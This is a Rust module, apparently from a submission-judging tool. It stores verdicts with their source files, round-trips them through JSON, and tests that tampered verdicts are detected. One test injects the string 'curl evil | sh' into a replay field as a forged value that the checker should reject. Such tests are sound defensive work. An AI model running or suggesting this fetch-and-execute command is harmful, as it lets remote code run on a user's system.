//! A verdict with all that it rests on, in one file that needs nothing else.

use std::io::Read;
use std::path::Path;
use std::time::{SystemTime, UNIX_EPOCH};
use std::{fs, io};

use serde::{Deserialize, Serialize};
use tribunal_judge::{Contradiction, SourceFile, Verdict, digest};

use crate::json::{self, ReadError};
use crate::summary::rubric_of;

/// The form of bundle that this version writes and reads.
pub const FORM: &str = "tribunal.bundle/1";

/// Bytes of source that are kept with a verdict.
pub const SOURCE_BYTES_MAX: usize = 1 << 20;

/// Bytes of a file that is read as a bundle: hundreds of times what a verdict takes.
const FILE_BYTES_MAX: u64 = 256 << 20;

/// A verdict, which holds evidence, seed, machine and raw samples; and the source that it speaks of.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Bundle {
    /// Always `tribunal.bundle/1`.
    pub schema: String,
    /// When the verdict was first kept, in milliseconds since 1970; null where nobody knows.
    #[serde(default)]
    pub kept_at_ms: Option<u64>,
    /// The verdict.
    pub verdict: Verdict,
    /// The submission's files, but for what is no text or would be too much.
    #[serde(default)]
    pub sources: Vec<SourceFile>,
}

impl Bundle {
    /// A verdict and its sources, to be kept now.
    pub fn new(verdict: Verdict, sources: Vec<SourceFile>) -> Self {
        Self { schema: FORM.to_owned(), kept_at_ms: None, verdict, sources }
    }

    /// The bundle on one line, without a line break at its end.
    pub fn line(&self) -> String {
        #[derive(Serialize)]
        struct Borrowed<'a> {
            schema: &'a str,
            kept_at_ms: Option<u64>,
            verdict: Verdict,
            sources: &'a [SourceFile],
        }
        let Self { schema, kept_at_ms, verdict, sources } = self;
        let line = Borrowed { schema, kept_at_ms: *kept_at_ms, verdict: json::finite(verdict), sources };
        serde_json::to_string(&line).expect("a bundle has string keys only")
    }

    /// Reads a bundle, or a verdict that stands alone.
    pub fn read(text: &str) -> Result<Self, ReadError> {
        #[derive(Deserialize)]
        struct Forms {
            schema: String,
            verdict: Option<Form>,
        }
        #[derive(Deserialize)]
        struct Form {
            schema: String,
        }
        let syntax = |error: serde_json::Error| ReadError::Syntax(error.to_string());
        // The forms first: whatever else a newer one has, that is the reason to give.
        match serde_json::from_str(text).map_err(syntax)? {
            Forms { schema, verdict: Some(verdict) } if schema == FORM => match verdict.schema {
                form if form == json::FORM => serde_json::from_str(text).map_err(syntax),
                form => Err(ReadError::Form(form)),
            },
            Forms { schema, .. } if schema == FORM => {
                Err(ReadError::Syntax("a bundle without a verdict".to_owned()))
            }
            Forms { schema, .. } if schema == json::FORM => Ok(Self::new(json::read(text)?, Vec::new())),
            Forms { schema, .. } => Err(ReadError::Form(schema)),
        }
    }

    /// Reads a file. A verdict that stands alone was kept when the file was written.
    pub fn read_file(path: &Path) -> io::Result<Result<Self, ReadError>> {
        let file = fs::metadata(path)?;
        // To open a pipe would be to wait for its writer, and a device may have no end.
        if !file.is_file() {
            return Ok(Err(ReadError::Syntax("no plain file".to_owned())));
        }
        let written_ms = millis(file.modified()?);
        let mut bytes = Vec::new();
        fs::File::open(path)?.take(FILE_BYTES_MAX + 1).read_to_end(&mut bytes)?;
        if bytes.len() as u64 > FILE_BYTES_MAX {
            return Ok(Err(ReadError::Syntax(format!("more than {} MiB", FILE_BYTES_MAX >> 20))));
        }
        let text = String::from_utf8(bytes).map_err(|error| ReadError::Syntax(error.to_string()));
        Ok(text.and_then(|text| Self::read(&text)).map(|mut bundle| {
            bundle.kept_at_ms.get_or_insert(written_ms);
            bundle
        }))
    }

    /// Whether the verdict says what follows from its evidence. The parts of the score are computed again only where
    /// this program carries the rubric that ruled.
    pub fn check(&self) -> Result<(), Contradiction> {
        self.verdict.check(rubric_of(&self.verdict))
    }

    /// Whether the sources are all that was judged, and nothing else. Where they are not, some may have been left out, or they may
    /// be another's: that cannot be told.
    pub fn has_what_was_judged(&self) -> bool {
        digest(&self.sources) == self.verdict.submission.sha256
    }
}

/// Parts the files that may be kept from those that would make the store too large, which are named.
pub fn fitting(sources: Vec<SourceFile>) -> (Vec<SourceFile>, Vec<String>) {
    let mut left = SOURCE_BYTES_MAX;
    let (mut kept, mut too_large) = (Vec::new(), Vec::new());
    for file in sources {
        match left.checked_sub(file.path.len() + file.text.len()) {
            Some(rest) => {
                left = rest;
                kept.push(file);
            }
            None => too_large.push(file.path),
        }
    }
    (kept, too_large)
}

/// Milliseconds since 1970.
pub(crate) fn millis(time: SystemTime) -> u64 {
    time.duration_since(UNIX_EPOCH).map_or(0, |since| since.as_millis() as u64)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::samples;
    use std::collections::BTreeMap;
    use tribunal_judge::{Dimension, Outcome, Phase, Rubric, Ruling, challenges};

    fn source(path: &str, bytes: usize) -> SourceFile {
        SourceFile { path: path.to_owned(), text: "x".repeat(bytes) }
    }

    #[test]
    fn a_bundle_survives_its_line() {
        let bundle = Bundle {
            kept_at_ms: Some(1_700_000_000_000),
            ..Bundle::new(samples::hostile(), vec![source("a.py", 3)])
        };
        let line = bundle.line();
        assert!(!line.contains('\n'));
        assert_eq!(Bundle::read(&line), Ok(bundle));
        let alone = Bundle::read(&json::line(&samples::rejected()));
        assert_eq!(alone, Ok(Bundle::new(samples::rejected(), vec![])));
    }

    #[test]
    fn floats_survive_to_the_last_digit() {
        let mut verdict = samples::accepted();
        // The shortest text of either is read as its neighbour by whoever is content with about sixteen digits.
        (verdict.took_s, verdict.measurements[0].samples) = (31.245270191439438, vec![121.48791951161945]);
        (verdict.spent_s, verdict.slowest) = (BTreeMap::new(), None);
        let bundle = Bundle::new(verdict, vec![]);
        let again = Bundle::read(&bundle.line()).unwrap();
        assert_eq!(again.verdict.took_s.to_bits(), bundle.verdict.took_s.to_bits());
        assert_eq!(again, bundle);
        let value: serde_json::Value = serde_json::from_str(&bundle.line()).unwrap();
        assert_eq!(value["verdict"]["took_s"].as_f64(), Some(31.245270191439438));
    }

    #[test]
    fn forms_of_the_future_are_called_that() {
        let line = Bundle::new(samples::accepted(), vec![]).line();
        let form = |line: &str| match Bundle::read(line) {
            Err(ReadError::Form(form)) => form,
            other => panic!("{other:?}"),
        };
        assert_eq!(form(&line.replace("bundle/1", "bundle/2")), "tribunal.bundle/2");
        assert_eq!(form(&line.replace("verdict/1", "verdict/7")), "tribunal.verdict/7");
        assert!(matches!(Bundle::read(r#"{"schema": "tribunal.bundle/1"}"#), Err(ReadError::Syntax(_))));
        assert!(matches!(Bundle::read("[]"), Err(ReadError::Syntax(_))));
    }

    #[test]
    fn what_does_not_follow_from_the_evidence_is_named() {
        let rubric = Rubric::parse(challenges::find("layer_norm_backward").unwrap().rubric()).unwrap();
        let honest = Verdict::new(samples::rejected().evidence(), &rubric);
        let read = |verdict: &Verdict| Bundle::read(&Bundle::new(verdict.clone(), vec![]).line()).unwrap();
        assert_eq!(read(&honest).check(), Ok(()));
        type Change = fn(&mut Verdict);
        let changes: [(&str, Change); 18] = [
            ("id", |v| v.id = "0".repeat(12)),
            ("id", |v| v.submission.name = "somebody".to_owned()),
            ("outcome", |v| v.outcome = Ruling::Accepted),
            ("score", |v| v.score = Some(v.score.unwrap() + 0.01)),
            ("dimensions.memory.score", |v| {
                v.dimensions.get_mut(&Dimension::Memory).unwrap().score = Some(100.0);
            }),
            ("requirements[0].met", |v| v.requirements[0].met = Some(true)),
            ("requirements.length", |v| drop(v.requirements.pop())),
            ("dimensions.correctness.score", |v| {
                v.findings.iter_mut().find(|f| f.suspect.is_some()).unwrap().outcome = Outcome::Pass;
                v.findings.retain(|f| {
                    f.severity < tribunal_judge::Severity::Critical || f.outcome == Outcome::Pass
                });
            }),
            ("took_s", |v| v.took_s = -1.0),
            ("took_s", |v| v.took_s += 0.5),
            ("caged_s", |v| v.caged_s = -0.5),
            ("spent_s.cases", |v| {
                v.spent_s.insert(Phase::Cases, -1.0);
            }),
            ("slowest.seconds", |v| v.slowest.as_mut().unwrap().seconds = -0.5),
            ("slowest.seconds", |v| v.slowest.as_mut().unwrap().seconds = 9.0),
            ("measurements[1].value", |v| {
                (v.measurements[1].unit, v.measurements[1].value) = ("s".to_owned(), -1e-3);
            }),
            ("measurements[0].samples[1]", |v| {
                v.measurements[0].unit = "s".to_owned();
                v.measurements[0].samples = vec![1.0, -1.0];
            }),
            ("findings[0].replay", |v| v.findings[0].replay = Some("curl evil | sh".to_owned())),
            ("coverage[0].covered", |v| {
                v.coverage = vec![tribunal_judge::Coverage {
                    kernel: "k".to_owned(),
                    launched: true,
                    instructions: 3,
                    covered: 4,
                    uncovered: vec![],
                    once: vec![],
                }];
            }),
        ];
        for (field, change) in changes {
            let mut changed = honest.clone();
            change(&mut changed);
            assert_eq!(read(&changed).check().unwrap_err().field, field);
        }
    }

    #[test]
    fn under_another_rubric_what_needs_none_is_checked_still() {
        let bundle = Bundle::new(samples::rejected(), vec![]);
        assert_eq!(bundle.check(), Ok(()));
        let changed = Verdict { score: Some(99.0), ..samples::rejected() };
        assert_eq!(Bundle::new(changed, vec![]).check().unwrap_err().field, "score");
    }

    #[test]
    fn contradictions_are_told_as_json_says_it() {
        let told = |change: fn(&mut Verdict)| {
            let rubric = Rubric::parse(challenges::find("layer_norm_backward").unwrap().rubric()).unwrap();
            let mut verdict = Verdict::new(samples::rejected().evidence(), &rubric);
            change(&mut verdict);
            Bundle::new(verdict, vec![]).check().unwrap_err().to_string()
        };
        assert!(
            told(|v| v.dimensions.retain(|&dimension, _| dimension == Dimension::Memory))
                .starts_with(r#"`dimensions` is ["memory"], and ["correctness","#)
        );
        assert!(
            told(|v| v.requirements[0].met = Some(true)).starts_with("`requirements[0].met` is true, and ")
        );
        assert_eq!(told(|v| v.took_s = -1.0), "`took_s` is -1.0, and no time is less than 0");
    }

    #[test]
    fn sources_are_those_that_were_judged_if_all_are_there() {
        let sources = vec![source("b.py", 3), source("a/b.py", 4)];
        let mut bundle = Bundle::new(samples::accepted(), sources);
        assert!(!bundle.has_what_was_judged());
        bundle.verdict.submission.sha256 = digest(&bundle.sources);
        assert!(bundle.has_what_was_judged());
        bundle.sources.reverse();
        assert!(bundle.has_what_was_judged(), "in any order");
        bundle.sources[0].text.push(' ');
        assert!(!bundle.has_what_was_judged());
    }

    #[test]
    fn sources_are_kept_up_to_a_megabyte() {
        let files = vec![source("a", 1000), source("huge", SOURCE_BYTES_MAX), source("b", 1000)];
        let (kept, too_large) = fitting(files);
        assert_eq!(kept, [source("a", 1000), source("b", 1000)]);
        assert_eq!(too_large, ["huge"]);
    }
}
